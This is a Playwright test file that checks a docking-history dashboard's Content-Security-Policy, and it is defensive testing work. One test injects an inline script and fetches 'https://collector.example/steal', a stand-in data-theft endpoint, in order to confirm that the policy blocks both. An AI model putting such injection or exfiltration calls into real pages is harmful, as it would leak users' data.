import { expect, test, type Page } from '@playwright/test';
import { generateDockingHistory } from '../support/generate-history';
import { fakeLL2 } from './ll2-routes';

/** Collects the page's Content-Security-Policy violations from its first script on. */
async function watchViolations(page: Page) {
  await page.addInitScript(() => {
    const violations: string[] = [];
    (window as unknown as { __violations: string[] }).__violations = violations;
    document.addEventListener('securitypolicyviolation', (event) =>
      violations.push(`${event.effectiveDirective} ${event.blockedURI}`),
    );
  });
  return () => page.evaluate(() => (window as unknown as { __violations: string[] }).__violations);
}

test('the build ships a Content-Security-Policy that the dashboard itself never violates', async ({
  page,
}) => {
  const violations = await watchViolations(page);
  await fakeLL2(page, generateDockingHistory({ seed: 12, count: 150 }));
  await page.goto('/?station=4');
  await expect(page.getByRole('heading', { name: /of 150 events$/ })).toBeVisible();
  const policy = await page
    .locator('meta[http-equiv="Content-Security-Policy"]')
    .getAttribute('content');
  expect(policy).toContain("script-src 'self'");
  expect(policy).toContain(
    "connect-src 'self' https://ll.thespacedevs.com https://lldev.thespacedevs.com",
  );
  expect(policy).toContain('img-src');
  expect(policy).toContain("object-src 'none'");

  // The timeline, the table, the drawer and the settings, all under the policy.
  await page.getByRole('row').nth(1).click();
  await expect(page.getByRole('dialog')).toBeVisible();
  await page.getByRole('button', { name: 'Close details' }).click();
  await page.getByRole('button', { name: 'Settings' }).click();
  await expect(page.getByRole('dialog', { name: 'Settings' })).toBeVisible();
  expect(await violations()).toEqual([]);
});

test('the policy blocks an injected inline script and requests to other origins', async ({
  page,
}) => {
  const violations = await watchViolations(page);
  await fakeLL2(page, generateDockingHistory({ seed: 12, count: 50 }));
  await page.goto('/');
  await expect(page.getByRole('heading', { name: '50 events' })).toBeVisible();

  const injected = await page.evaluate(() => {
    const script = document.createElement('script');
    script.textContent = 'window.__injected = true';
    document.head.append(script);
    return (window as unknown as { __injected?: boolean }).__injected ?? false;
  });
  expect(injected).toBe(false);

  const outcome = await page.evaluate(() =>
    fetch('https://collector.example/steal').then(
      () => 'sent',
      () => 'blocked',
    ),
  );
  expect(outcome).toBe('blocked');
  await expect
    .poll(violations)
    .toEqual(['script-src-elem inline', 'connect-src https://collector.example/steal']);
});
